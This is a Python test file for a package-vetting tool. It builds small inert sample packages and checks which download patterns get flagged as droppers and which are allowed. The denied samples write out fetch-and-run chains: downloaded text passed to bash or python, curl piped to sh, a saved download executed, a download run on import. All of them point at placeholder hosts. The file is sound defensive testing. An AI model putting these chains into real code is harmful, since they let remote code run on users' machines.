"""A download's address handed to curl when called (ultralytics' ``safe_download`` asks
Google Drive for a file's address and hands it to ``curl -o FILE``) is a download, not a
download run (ADR 0144); what curl saved, run afterwards, is a dropper, as a
``requests`` download written and run is.

Every sample is inert and made here (vetting only reads files), cut down to what the rules
read."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

FETCH = (
    "import os, subprocess, shlex\n\nimport requests\n\n\n"
    "def drive_url(link):\n"
    "    with requests.Session() as session:\n"
    "        response = session.get(link, stream=True)\n"
    "    return response.text.strip()\n\n\n"
    "def download(link, f):\n"
    "    url = requests.get(link).text.strip()\n"
    "{body}"
)
CURL = "    subprocess.run(['curl', '-#', '-fL', url, '-o', f, '-D', '-'], check=False)\n"
ON_IMPORT = "\ndownload('https://example.invalid/a', '/tmp/evpkg-a')\n"


def fetch(body: str = CURL, more: str = "") -> dict[str, str]:
    return {"evpkg/__init__.py": "", "evpkg/downloads.py": FETCH.format(body=body) + more}


DENIED: dict[str, dict[str, str]] = {
    # What was downloaded run by a shell, an interpreter, or as the program itself.
    "downloaded-text-to-bash-c": fetch("    subprocess.run(['bash', '-c', url])\n"),
    "downloaded-text-to-python-c": fetch("    subprocess.run(['python', '-c', url])\n"),
    "downloaded-path-to-sh": fetch("    subprocess.run(['sh', url])\n"),
    "downloaded-program": fetch("    subprocess.run([url, '-o', f])\n"),
    "downloaded-words-split": fetch("    subprocess.run(shlex.split(url))\n"),
    "downloaded-host-to-ssh": fetch("    subprocess.run(['ssh', url])\n"),
    # curl, but through a shell that reads the downloaded words as commands.
    "curl-line-in-a-shell": fetch("    subprocess.run('curl ' + url + ' -o x', shell=True)\n"),
    "curl-list-with-shell": fetch("    subprocess.run(['curl', url], shell=True)\n"),
    "curl-fstring-in-a-shell": fetch("    subprocess.run(f'curl {url} -o x', shell=True)\n"),
    "curl-by-os-system": fetch("    os.system('curl ' + url)\n"),
    "curl-list-with-another-executable": fetch(
        "    subprocess.run(['curl', url], executable='/bin/sh')\n"
    ),
    "curl-list-with-spread-options": fetch(
        "    opts = {'shell': True}\n    subprocess.run(['curl', url], **opts)\n"
    ),
    "curl-list-built-elsewhere": fetch(
        "    cmd = ['curl', url, '-o', f]\n    subprocess.run(cmd)\n"
    ),
    "curl-piped-to-sh": fetch("    subprocess.run(['curl', url, '|', 'sh'])\n"),
    # What curl saved, run afterwards (allowed on main when called: the same chain as a
    # requests download written then run).
    "curl-saved-then-run": fetch(CURL + "    subprocess.run([f])\n"),
    "curl-saved-then-sh": fetch(CURL + "    subprocess.run(['sh', f])\n"),
    "curl-saved-then-exec": fetch(CURL + "    exec(open(f).read())\n"),
    "literal-curl-saved-then-run": fetch(
        "    subprocess.run(['curl', 'https://example.invalid/x', '-o', '/tmp/evpkg-x'])\n"
        "    subprocess.run(['/tmp/evpkg-x'])\n"
    ),
    "literal-curl-saved-joined-then-run": fetch(
        "    subprocess.run(['curl', 'https://example.invalid/x', '--output=/tmp/evpkg-x'])\n"
        "    subprocess.run(['/tmp/evpkg-x'])\n"
    ),
    "wget-saved-then-run": fetch(
        "    subprocess.run(['wget', 'https://example.invalid/x', '-O', '/tmp/evpkg-x'])\n"
        "    subprocess.run(['/tmp/evpkg-x'])\n"
    ),
    # wget reads commands it runs (``--execute``, ``--use-askpass``): not curl's case.
    "downloaded-address-to-wget": fetch("    subprocess.run(['wget', url, '-O', f])\n"),
    # The address handed to curl on import stays the dropper it was.
    "curl-given-a-download-on-import": fetch(more=ON_IMPORT),
}
ALLOWED: dict[str, dict[str, str]] = {
    # ultralytics' safe_download: Google Drive's answer is the address curl fetches.
    "download-address-handed-to-curl": fetch(),
    "download-address-handed-to-curl-as-a-tuple": fetch(
        "    subprocess.run(('curl', url, '-o', f), shell=False)\n"
    ),
    # What curl saved, only unpacked by Python (not run).
    "curl-saved-then-unzipped": fetch(
        CURL + "    import zipfile\n    zipfile.ZipFile(f).extractall('/tmp/evpkg')\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_fetch_tool_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
